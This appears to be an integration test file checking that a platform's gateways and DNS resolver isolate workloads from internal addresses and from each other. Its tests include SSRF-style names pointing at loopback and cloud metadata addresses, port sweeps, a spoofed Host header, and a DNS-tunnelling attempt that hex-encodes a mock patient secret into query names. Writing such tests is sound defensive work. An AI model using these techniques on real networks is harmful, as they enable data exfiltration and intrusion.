/** Workloads, and somebody outside, against the gateways and the resolver of a running platform. */
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { before, test } from 'node:test'
import { findEnvoy } from '../../src/engines/envoy/binary.ts'
import { document, echo, eventually, instanceOfFile, lab, upWhole } from './lib/instance.ts'
import { outsideWorld } from './lib/outside-world.ts'
import type { OutsideWorld } from './lib/outside-world.ts'

const skip = findEnvoy() === undefined ? 'no envoy' : false

/** Where a name outside has no business to lead: machinery, the platform, its gateways, and every spelling of them. */
const inward: Readonly<Record<string, readonly string[]>> = {
  loopback: ['127.0.0.1'], loopback6: ['::1'], anywhere: ['0.0.0.0'], anywhere6: ['::'], mapped: ['::ffff:127.0.0.1'], 'mapped-gateway': ['::ffff:10.128.0.4'], translated: ['64:ff9b::a80:4'], relayed: ['2002:a80:4::1'], gateway: ['10.128.0.4'], resolver: ['10.128.0.5'], workload: ['10.128.0.16'], workload6: ['fdbb:1::10'],
  metadata: ['169.254.169.254'], metadata6: ['fd00:ec2::254'], link: ['fe80::1'], private: ['192.168.1.1'], carrier: ['100.64.0.1'], multicast: ['224.0.0.1'], mixed: ['203.0.113.20', '10.128.0.4'], 'mixed-families': ['203.0.113.21', '::1'], published: ['203.0.113.80'],
}
const names = { ...Object.fromEntries(Object.entries(inward).map(([name, to]) => [`${name}.example.org`, to])), 'pypi.example.net': ['203.0.113.10', '2001:db8:51::10'], 'files.example.net': ['203.0.113.11', '2001:db8:51::11'] }
const egress = (source: string, to: string): string => document('EgressPolicy', `${source}-${to}`, `{ source: ${source}, destination: external:${to}, protocol: tcp, port: 443 }`)

const i = instanceOfFile()
let world: OutsideWorld
/** The numbers of the platform's addresses, without their last part. */
let pools: readonly string[] = []

before(async () => {
  if (skip !== false) return
  world = await outsideWorld(join(i.directory, '..'), names)
  await upWhole(i, lab(
    { web: { script: echo(8080), ports: '[8080]' }, client: {}, second: {} },
    document('Platform', 'here', `{ trustDomain: here.example, gateway: { addresses: [203.0.113.80, '2001:db8:80::1'] }, resolver: { upstream: [${world.nameServer}] } }`),
    document('External', 'world', '{ cidrs: [198.51.100.0/24, \'2001:db8:a::/48\'] }'), document('External', 'inward', `{ domains: [${Object.keys(inward).map((name) => `${name}.example.org`).join(', ')}] }`),
    document('External', 'pypi', '{ domains: [pypi.example.net] }'), document('External', 'files', '{ domains: [files.example.net] }'),
    egress('client', 'pypi'), egress('client', 'inward'), egress('second', 'files'),
    document('IngressPolicy', 'web', '{ source: external:world, destination: web, protocol: tcp, port: 8080, hosts: [www.example.org], authentication: none }'),
  ), '--outside', world.command)
  const place = (await i.status()).workloads.find((w) => w.workload === 'lab/web')
  pools = [place?.ipv4 ?? '', place?.ipv6 ?? ''].map((address) => address.replace(/[0-9a-f]+$/, ''))
})

/** Runs in a workload, or outside, and says which of these open; all of them at once. */
async function opens(who: string, targets: readonly (readonly [host: string, port: number])[]): Promise<readonly string[]> {
  const script = `const t=${JSON.stringify(targets)};Promise.all(t.map(([host,port])=>new Promise(d=>{const s=require('net').connect({host,port,localAddress:'${who}'==='outside'?(host.includes(':')?'2001:db8:a::7':'198.51.100.7'):undefined});s.setTimeout(4000,()=>{s.destroy();d()});s.on('error',()=>d());s.on('connect',()=>{s.destroy();d(host+' '+port)})}))).then(a=>console.log(JSON.stringify(a.filter(Boolean))))`
  const { stdout, stderr } = who === 'outside' ? await i.bulkhead('exec', '--outside', '--', process.execPath, '-e', script) : await i.exec(who, 'node', '-e', script)
  assert.ok(stdout.startsWith('['), stderr)
  return JSON.parse(stdout) as readonly string[]
}
const curl = async (workload: string, ...words: readonly string[]): Promise<string> => {
  const { code, stdout } = await i.exec(workload, 'curl', '--silent', '--insecure', '--max-time', '6', ...words)
  return code === 0 ? stdout.trim() : 'closed'
}
const questions = (): readonly string[] => readFileSync(join(i.directory, '..', 'outside-questions'), 'utf8').trim().split('\n')
const ports = [22, 53, 80, 443, 853, 8080, 8443, 9901, 10_000, 15_000, 15_001, 15_002, 15_100, 15_107, 15_115, 15_443]
const gatewayPorts = (): readonly (readonly [string, number])[] => pools.flatMap((pool) => [3, 4, 5].flatMap((n) => ports.map((port) => [`${pool}${n}`, port] as const)))

test('a workload reaches nothing of gateways and resolver but the answers to its questions, in both families', { skip }, async () => {
  const published = ['203.0.113.80', '2001:db8:80::1'].flatMap((host) => ports.map((port) => [host, port] as const))
  for (const who of ['client', 'second']) {
    assert.deepEqual(await opens(who, [...gatewayPorts(), ...published]), pools.map((pool) => `${pool}5 53`), who)
  }
})

test('from outside only the published gateway answers, and only where it is meant to', { skip }, async () => {
  const inside = pools.flatMap((pool) => ['1', '2', '10', '11', '12', '16', '17', '18'].flatMap((n) => [22, 443, 8080].map((port) => [`${pool}${n}`, port] as const)))
  const published = ['203.0.113.80', '2001:db8:80::1'].flatMap((host) => ports.map((port) => [host, port] as const))
  assert.deepEqual(await opens('outside', published), ['203.0.113.80 443', '2001:db8:80::1 443'])
  assert.deepEqual(await opens('outside', [...gatewayPorts(), ...inside]), [])
})

test('nobody is asked at a port who commands a gateway: that is a file which no workload sees', { skip }, async () => {
  for (const gateway of ['gateway-out', 'gateway-in']) {
    const { stdout } = await i.router('ip', 'netns', 'exec', gateway, 'ss', '-Htln')
    const listening = stdout.trim().split('\n').map((line) => Number(/:(\d+)\s/.exec(line)?.[1]))
    assert.ok(listening.length > 0 && listening.every((port) => port === 443 || (port >= 15_001 && port < 15_200) || port === 15_443 || port === 80), `${gateway}: ${stdout}`)
  }
  const { stdout } = await i.exec('client', 'sh', '-c', 'find / -name "*.sock" -not -path "/proc/*" 2>/dev/null; cat /proc/net/unix')
  assert.doesNotMatch(stdout, /admin|gateways/)
})

test('a name that leads inwards, in whatever spelling, is answered to nobody, and the gateway does not go there either', { skip }, async () => {
  await eventually(async () => assert.match(await curl('client', 'https://pypi.example.net/'), /^GET/), 15_000)
  const script = `const {promises:d}=require('dns');Promise.all(${JSON.stringify(Object.keys(inward))}.map(async n=>[n,...(await Promise.allSettled([d.resolve4(n+'.example.org'),d.resolve6(n+'.example.org')])).flatMap(r=>r.value??[])])).then(a=>console.log(JSON.stringify(a.filter(x=>x.length>1))))`
  const told = JSON.parse((await i.exec('client', 'node', '-e', script)).stdout) as readonly (readonly string[])[]
  // Of a name with one good address the good family is told; nothing inward ever is.
  assert.deepEqual(told.filter(([name]) => name !== 'mixed-families' && name !== 'published'), [])
  assert.ok(told.flatMap(([, ...addresses]) => addresses).every((address) => address.startsWith('203.0.113.')), JSON.stringify(told))
  // The name in the first words, at an address that is open: the gateway asks for itself.
  const through = await Promise.all(Object.keys(inward).filter((name) => name !== 'mixed-families').map(async (name) => [name, await curl('client', '--resolve', `${name}.example.org:443:203.0.113.10`, `https://${name}.example.org/`)] as const))
  assert.deepEqual(through.filter(([, answer]) => answer !== 'closed'), [])
})

test('an address is open to the identity that asked for its name, and to no other, in both families', { skip }, async () => {
  assert.match(await curl('client', 'https://pypi.example.net/'), /^GET/)
  assert.match(await curl('second', 'https://files.example.net/'), /^GET/)
  const tries = [['second', 'pypi.example.net', '203.0.113.10'], ['second', 'files.example.net', '203.0.113.10'], ['client', 'files.example.net', '203.0.113.11'], ['client', 'pypi.example.net', '203.0.113.11'], ['second', 'files.example.net', '[2001:db8:51::10]'], ['client', 'pypi.example.net', '[2001:db8:51::11]']] as const
  for (const [who, name, address] of tries) assert.equal(await curl(who, '--resolve', `${name}:443:${address}`, `https://${name}/`), 'closed', `${who} ${name} ${address}`)
})

test('another host behind an allowed name stays with the server of that name', { skip }, async () => {
  assert.match(await curl('client', '-H', 'Host: evil.example.org', 'https://pypi.example.net/x'), /^GET evil\.example\.org\/x as pypi\.example\.net at (::ffff:203\.0\.113\.10|2001:db8:51::10)$/)
})

test('no question leaves but for an allowed name, by whatever way it is asked', { skip }, async () => {
  const secret = Buffer.from('patient 4711: what must not leave').toString('hex')
  const asked = `const {Resolver}=require('dns').promises;const own=new Resolver({timeout:1500,tries:1}),direct=new Resolver({timeout:1500,tries:1});direct.setServers(['${world.nameServer}']);const s='${secret}'
const names=[s.slice(0,60)+'.pypi.example.net',s.slice(0,60)+'.tunnel.example',s.slice(0,20)+'pypi.example.net',[s.slice(0,60),s.slice(4,64),s.slice(0,50)].join('.')+'.example.net']
const all=names.flatMap(n=>['A','AAAA','TXT','CNAME','MX','SRV','NS','CAA','ANY'].flatMap(t=>[own.resolve(n,t),direct.resolve(n,t)])).concat(['TXT','MX','CNAME','NS','CAA','ANY'].map(t=>own.resolve('pypi.example.net',t)),direct.resolve4('pypi.example.net'))
Promise.allSettled(all).then(r=>console.log(r.length,r.filter(x=>x.status==='fulfilled').length))`
  const { stdout } = await i.exec('client', 'node', '-e', asked)
  assert.equal(stdout.trim(), '79 0')
  const allowed = new Set(Object.keys(names))
  assert.deepEqual(questions().filter((line) => !allowed.has(line.split(' ')[0] ?? '') || !/ (A|AAAA)$/.test(line)), [])
  for (const [port, ...words] of [[853], [443, 'https://198.51.100.53/dns-query?dns=AAAB'], [443, '--resolve', 'dns.example:443:198.51.100.53', 'https://dns.example/dns-query?dns=AAAB']] as const) {
    assert.deepEqual(await opens('client', [[world.nameServer, port], [world.nameServer, 53]]), [], String(port))
    if (words.length > 0) assert.equal(await curl('client', ...words), 'closed')
  }
})
